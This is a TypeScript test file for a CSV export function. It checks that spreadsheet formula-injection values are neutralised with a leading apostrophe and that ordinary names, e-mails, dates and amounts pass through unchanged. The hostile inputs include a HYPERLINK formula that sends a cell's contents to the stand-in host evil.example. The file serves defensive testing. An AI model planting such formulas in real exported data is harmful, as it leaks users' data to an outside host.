import Papa from "papaparse";
import { expect, test } from "vitest";
import { toCsv } from "./csv-export";

const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1];

test("a cell a spreadsheet would run as a formula is written as plain text", () => {
  const hostile = ['=HYPERLINK("http://evil.example/?d="&E2,"Open")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1\nsecond line", "\uFF1D1+1"];
  const row = Object.fromEntries(hostile.map((value, i) => [`c${i}`, value]));
  expect(cells(toCsv([row]))).toEqual(hostile.map((value) => `'${value}`));
});

test("ordinary names, e-mails, dates and amounts are written unchanged", () => {
  const row = { Camper: "Ada O'Neil-Smith", Email: "a+camp@example.com", Date: "2026-12-23", Total: "135.00", Balance: "-15.00", Id: 7, Notes: "Mid = fine" };
  expect(cells(toCsv([row]))).toEqual(["Ada O'Neil-Smith", "a+camp@example.com", "2026-12-23", "135.00", "-15.00", "7", "Mid = fine"]);
  expect(toCsv([row]).split("\r\n")).toHaveLength(2);
});
